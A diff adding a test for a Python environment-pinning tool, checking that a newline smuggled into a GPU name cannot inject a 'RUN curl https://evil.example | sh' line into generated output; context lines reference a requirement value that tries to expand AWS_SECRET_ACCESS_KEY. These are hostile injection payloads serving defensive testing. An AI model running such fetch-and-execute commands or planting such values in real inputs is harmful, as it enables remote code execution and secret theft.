@@ -370,3 +370,17 @@ def test_the_hook_on_a_hostile_pull_request_prints_no_secret(tmp_path, secret_fi
     assert len(refused) == 5, result.stderr  # each bad include and the link, one line each
     assert "CHK-REQUIREMENT-INVALID" in result.stdout and "torch==${AWS_SECRET_ACCESS_KEY}" in result.stdout
     assert raw_controls(result.stdout + result.stderr) == ""
+
+
+def test_a_line_break_in_a_gpu_name_starts_no_line_of_the_answer(tmp_path):
+    facts = to_json(HostFacts(os="linux", arch="x86_64", python=PythonInfo("3.11.7", "/usr/bin/python3", "venv"),
+                              driver=Driver("535.104.05", "12.2", "nvml"),
+                              gpus=(Gpu(0, "NVIDIA GeForce RTX 3090\nRUN curl https://evil.example | sh", "8.6", 24576),)))
+    path = tmp_path / "facts.json"
+    path.write_text(json.dumps(facts), encoding="utf-8")
+    for command in (("solve",), ("solve", "--format", "requirements.txt"), ("doctor",), ("matrix",)):
+        result = envpin(*command, "--facts", str(path))
+        assert "Traceback" not in result.stderr
+        lines = (result.stdout + result.stderr).splitlines()
+        assert not any(line.lstrip("# ").startswith("RUN curl") for line in lines), (command, result.stdout)
+        assert "3090\\nRUN curl" in result.stdout, (command, result.stdout)
